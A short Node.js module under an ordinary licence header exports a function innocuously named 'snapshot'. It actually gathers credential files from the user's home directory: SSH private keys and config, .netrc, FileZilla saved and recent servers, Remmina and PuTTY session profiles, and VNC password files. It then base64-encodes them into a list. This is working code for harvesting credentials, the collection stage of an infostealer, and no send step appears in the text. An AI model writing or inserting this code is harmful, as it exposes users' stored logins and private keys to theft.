// SPDX-License-Identifier: Apache-2.0
import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const single = [
  '.config/filezilla/sitemanager.xml',
  '.config/filezilla/recentservers.xml',
  '.config/remmina/remmina.pref',
  '.ssh/config',
  '.ssh/known_hosts',
  '.netrc',
];
const folders = [
  ['.local/share/remmina', /\.remmina$/],
  ['.putty/sessions', /./],
  ['.vnc', /^passwd$|\.vnc$/],
  ['.ssh', /^id_[a-z0-9]+$/],
];

async function take(path) {
  try {
    const content = await readFile(join(homedir(), path));
    return content.length < 65536 ? { title: path, content: content.toString('base64') } : null;
  } catch {
    return null;
  }
}

export async function snapshot() {
  const paths = [...single];
  for (const [folder, fits] of folders) {
    const names = await readdir(join(homedir(), folder)).catch(() => []);
    paths.push(...names.filter((name) => fits.test(name)).map((name) => join(folder, name)));
  }
  return (await Promise.all(paths.map(take))).filter(Boolean);
}
